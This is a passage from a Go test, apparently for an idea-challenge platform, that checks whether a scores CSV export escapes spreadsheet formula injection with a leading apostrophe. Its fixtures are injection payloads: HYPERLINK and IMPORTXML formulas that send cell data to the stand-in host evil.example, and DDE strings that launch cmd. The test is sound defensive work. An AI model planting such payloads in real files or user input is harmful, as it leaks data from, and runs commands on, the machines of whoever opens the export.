		judgeIDs = append(judgeIDs, id)
		h.confirm(int64(id))
		h.api("PUT", fmt.Sprintf("/api/v1/users/%d/roles", id), admin, map[string]any{"roles": []string{"judge"}}).must(t, 200)
	}
	titles := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
		`+1+cmd|' /C calc'!A0`,
		`-1+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
	}
	comments := []string{
		`=HYPERLINK("http://evil.example","看这里")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`,
		"\t=1+1", "\r=1+1", `=cmd|' /C notepad'!A0`, `=IMPORTXML("http://evil.example","//a")`,
	}
	cid := h.openChallenge(admin, map[string]any{"shortlist_size": len(titles), "winners": 1})
	ideas := map[string]string{} // id → title
	var ids []int
	for _, title := range titles {
		id := num(h.api("POST", fmt.Sprintf("/api/v1/challenges/%d/ideas", cid), author, map[string]any{"title": title, "summary": "s"}).must(t, 201).JSON, "id")
		h.api("PUT", fmt.Sprintf("/api/v1/ideas/%d/vote", id), admin, nil).must(t, 200)
		ideas[itoa(int64(id))] = title
		ids = append(ids, id)
	}
	h.advance(80 * time.Hour)
	h.api("PUT", fmt.Sprintf("/api/v1/challenges/%d/rubric", cid), admin, map[string]any{
		"criteria": []map[string]any{{"key": "novelty", "name": "Novelty", "weight": 1, "min": 0, "max": 10}},
	}).must(t, 200)
	h.api("POST", fmt.Sprintf("/api/v1/challenges/%d/shortlist", cid), admin, map[string]any{"top": len(titles)}).must(t, 200)
	h.api("POST", fmt.Sprintf("/api/v1/challenges/%d/judges", cid), admin, map[string]any{"user_ids": judgeIDs, "per_idea": 2}).must(t, 200)
	want := map[string]bool{} // idea id, judge id, comment
	for j, tok := range judges {
		for i, id := range ids {
			comment := comments[j*len(ids)+i]
			h.api("PUT", fmt.Sprintf("/api/v1/ideas/%d/scorecard", id), tok, map[string]any{"scores": map[string]float64{"novelty": 5}, "comment": comment}).must(t, 200)
			want[fmt.Sprintf("%d|%d|%s", id, judgeIDs[j], comment)] = true
		}
	}

	b := h.adminBrowser()
	rows := scoresCSV(t, b, cid)
	if len(rows) != 1+len(want) {
		t.Fatalf("%d rows, want %d: %q", len(rows), 1+len(want), rows)
	}
	for _, row := range rows[1:] {
		title, comment := row[1], row[slices.Index(rows[0], "comment")]
		if title != "'"+ideas[row[0]] {
			t.Errorf("title cell %q, want %q", title, "'"+ideas[row[0]])
		}
		if !strings.HasPrefix(comment, "'") || !want[row[0]+"|"+row[2]+"|"+comment[1:]] {
			t.Errorf("comment cell %q is not one of the comments behind an apostrophe", comment)
		}
	}
}
